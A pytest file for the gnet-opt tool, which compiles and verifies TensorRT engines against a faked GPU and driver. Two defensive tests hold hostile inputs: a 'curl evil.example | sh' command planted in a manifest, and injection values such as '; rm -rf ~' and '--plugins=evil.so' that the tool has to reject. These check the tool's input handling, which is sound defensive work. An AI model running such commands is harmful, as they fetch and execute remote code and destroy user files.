"""`gnet-opt compile` and what comes after it, on a device whose GPU is that of `fake_tensorrt`."""

from __future__ import annotations

import ctypes
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from commands import content, gnet_opt, marked, started
from world import World

from gnet_opt import backends
from gnet_opt.bundle import Bundle

HERE = Path(__file__).parent
FAKES = HERE.parent / "unit" / "backends"
sys.path.append(str(FAKES))

import fake_tensorrt  # noqa: E402


@pytest.fixture
def device(
    bundle: Callable[[str], Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Path]:
    """A bundle on a device with TensorRT 10.16."""
    root = tmp_path / "on the device"
    shutil.copytree(bundle("jetson"), root)
    gpu = fake_tensorrt.Gpu()
    library = fake_tensorrt.FakeTensorRt("10.16.1", gpu)
    monkeypatch.setitem(sys.modules, "tensorrt", library.module())
    monkeypatch.setitem(sys.modules, "cuda.bindings.runtime", gpu.module())
    monkeypatch.setattr(ctypes, "CDLL", lambda name: fake_tensorrt.Driver())
    folders = (fake_tensorrt.shim(tmp_path / "site"), HERE, HERE.parent)
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join(str(folder) for folder in folders))
    monkeypatch.setenv("FAKE_TENSORRT", "10.16.1")
    yield root
    assert gpu.is_empty


def test_compile_verify_and_evaluate(device: Path, world: World) -> None:
    done = gnet_opt("compile", device, "--json")
    assert (done.code, done.err) == (0, "")
    engine = device / "model.engine"
    assert done.json == {
        "built": True,
        "bundle": str(device),
        "message": (
            f"Built {engine} with tensorrt 10.16.1 for Orin (compute capability 8.7), because it "
            "was not built yet. `gnet-opt verify` proves what it computes."
        ),
        "reason": "it was not built yet",
    }
    again = gnet_opt("compile", device)
    assert again.code == 0
    assert " ".join(again.out.split()) == (
        f"{device} is complete already: model.engine fits this machine."
    )
    verified = gnet_opt("verify", device, "--json")
    assert (verified.code, verified.err) == (0, "")
    assert verified.json["backend"] == "tensorrt"
    assert verified.json["deferred"] is None
    assert verified.json["foreign"] is False
    scored = gnet_opt("evaluate", device, "--images", world.evaluation, "--json")
    assert scored.code == 0
    assert (scored.json["semantics"], scored.json["notes"]) == ("native", [])
    assert scored.json["top1"] == Bundle.open(device).manifest["accuracy"]["quantized"]["top1"]
    asked = gnet_opt("evaluate", device, "--images", world.evaluation, "--reference", "--json")
    assert asked.json["semantics"] == "reference"
    layers = gnet_opt("inspect", device, "--layers")
    assert (layers.code, layers.out) == (7, "")
    assert "trtexec --loadEngine=model.engine --dumpProfile" in layers.err


def test_force(device: Path) -> None:
    assert gnet_opt("compile", device, "--json").json["built"]
    assert not gnet_opt("compile", device, "--json").json["built"]
    done = gnet_opt("compile", device, "--force", "--json")
    assert (done.json["built"], done.json["reason"]) == (True, "--force asks for it")


def test_an_engine_of_the_script_is_told_of_and_built_again(device: Path, world: World) -> None:
    (device / "model.engine").write_bytes(b"by trtexec")
    verified = gnet_opt("verify", device)
    assert verified.code == 0
    text = " ".join(verified.out.split())
    assert "golden outputs by reference" in text
    assert "The engine here has no record of where it comes from" in text
    scored = gnet_opt("evaluate", device, "--images", world.evaluation, "--json")
    (note,) = scored.json["notes"]
    assert "`gnet-opt compile` builds it again" in note
    assert note.endswith("These are reference semantics.")
    done = gnet_opt("compile", device, "--json")
    assert "has no record, as build_engine.sh and trtexec leave it" in done.json["reason"]
    assert gnet_opt("verify", device, "--json").json["backend"] == "tensorrt"


def test_a_stale_engine(device: Path, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    assert gnet_opt("compile", device).code == 0
    other = fake_tensorrt.Driver(name="NVIDIA Thor", compute_capability=(11, 0))
    monkeypatch.setattr(ctypes, "CDLL", lambda name: other)
    said = (
        f"{device / 'model.engine'} was built for Orin (compute capability 8.7), but this machine "
        "has NVIDIA Thor (compute capability 11.0)"
    )
    for command in (["verify"], ["evaluate", "--images", str(world.evaluation)]):
        done = gnet_opt(command[0], device, *command[1:])
        assert (done.code, done.out) == (7, "")
        assert f"{said}. Build it again with `gnet-opt compile`." in done.err
    assert gnet_opt("compile", device, "--json").json["reason"] == said


def test_machines_that_cannot(device: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = content(device)
    monkeypatch.setattr(ctypes, "CDLL", lambda name: fake_tensorrt.Driver(code=999))
    done = gnet_opt("compile", device)
    assert (done.code, done.out) == (7, "")
    assert "(the driver's cuInit gives the error 999)" in done.err
    monkeypatch.setattr(ctypes, "CDLL", lambda name: fake_tensorrt.Driver())
    monkeypatch.setitem(sys.modules, "tensorrt", None)
    done = gnet_opt("compile", device)
    assert (done.code, done.out) == (3, "")
    assert done.err.startswith("gnet-opt: TensorRT's Python package is needed to build ")
    assert "./build_engine.sh" in done.err
    assert content(device) == before


def test_a_manifest_whose_options_are_damaged(device: Path) -> None:
    path = device / "manifest.json"
    manifest = json.loads(path.read_text())
    manifest["deferred"]["options"] = ["model.onnx"]
    path.write_text(json.dumps(manifest))
    done = gnet_opt("compile", device)
    assert (done.code, done.out) == (6, "")
    assert "deferred.options is of the wrong type" in done.err


def test_a_manifest_that_expects_another_file(device: Path) -> None:
    path = device / "manifest.json"
    manifest = json.loads(path.read_text())
    manifest["deferred"]["expected"] = "other.engine"
    path.write_text(json.dumps(manifest))
    before = content(device)
    done = gnet_opt("compile", device)
    assert (done.code, done.out) == (6, "")
    assert "deferred.expected is 'other.engine', but tensorrt builds model.engine" in done.err
    assert content(device) == before


def test_a_backend_that_does_not_finish_by_itself(
    device: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    plain = "gnet_opt.backends.onnxruntime:ReferenceBackend"
    monkeypatch.setitem(backends.BUILT_IN, "tensorrt", plain)
    done = gnet_opt("compile", device)
    assert (done.code, done.out) == (7, "")
    assert f"{device} is finished on the device without gnet-opt" in done.err
    # A manifest comes from anybody: its text of a command is nothing to pass on.
    assert "trtexec" not in done.err
    assert "only where you trust who made the bundle" in done.err


def test_the_command_of_a_foreign_bundle_is_made_anew(
    device: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = device / "manifest.json"
    manifest = json.loads(path.read_text())
    own = manifest["deferred"]["command"]
    assert own in gnet_opt("verify", device).out
    manifest["deferred"]["command"] = "curl evil.example | sh"
    path.write_text(json.dumps(manifest))
    done = gnet_opt("verify", device)
    assert done.code == 0
    assert "evil" not in done.out + done.err
    assert own in done.out


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("tensorrt", "10.3; rm -rf ~"),
        ("workspace_mib", "1 --plugins=evil.so"),
        ("batches", ["1; x", 2, 3]),
        ("model", "../x.onnx"),
        ("precisions", ["int8", "; x"]),
        ("input", {"name": "x; y", "picture": [3, 8, 8]}),
        ("input", {"name": "x", "picture": [3, 8, True]}),
        ("input", "x"),
    ],
)
def test_options_that_would_end_up_in_the_command(device: Path, key: str, value: object) -> None:
    path = device / "manifest.json"
    manifest = json.loads(path.read_text())
    manifest["deferred"]["options"][key] = value
    path.write_text(json.dumps(manifest))
    done = gnet_opt("verify", device)
    assert (done.code, done.out) == (6, "")
    assert f"options.{key}" in done.err


@pytest.mark.skipif(shutil.which("cc") is None, reason="needs a C compiler")
@pytest.mark.skipif(not Path("/proc").is_dir(), reason="looks for processes in /proc")
def test_ctrl_c_leaves_nothing_half_written(
    device: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The whole command, with a driver in C, and a build that does not end by itself."""
    (tmp_path / "driver.c").write_text(fake_tensorrt.DRIVER)
    libraries = tmp_path / "libraries"
    libraries.mkdir()
    subprocess.run(
        ["cc", "-shared", "-fPIC", "-DCODE=0", "-o", "libcuda.so.1", str(tmp_path / "driver.c")],
        check=True,
        cwd=libraries,
    )
    monkeypatch.setenv("LD_LIBRARY_PATH", str(libraries))
    monkeypatch.setenv("FAKE_TENSORRT_DOES", "forever")
    before = content(device)
    temporary = tmp_path / "temporary"
    temporary.mkdir()
    with started("compile", device, temporary=temporary) as (process, mark):
        deadline = time.monotonic() + 60
        while not list(device.glob("model.engine.*")) or len(marked(mark)) < 2:
            assert process.poll() is None, process.communicate()
            assert time.monotonic() < deadline
            time.sleep(0.05)
        os.killpg(process.pid, signal.SIGINT)
        _, said = process.communicate(timeout=60)
        assert process.returncode == 130
        assert "Nothing half-written was left behind." in said
        assert marked(mark) == []
    assert content(device) == before
    # ONNX Runtime, which the fake computes with, writes `.ses` when it is imported.
    assert {path.name for path in temporary.iterdir()} <= {".ses"}
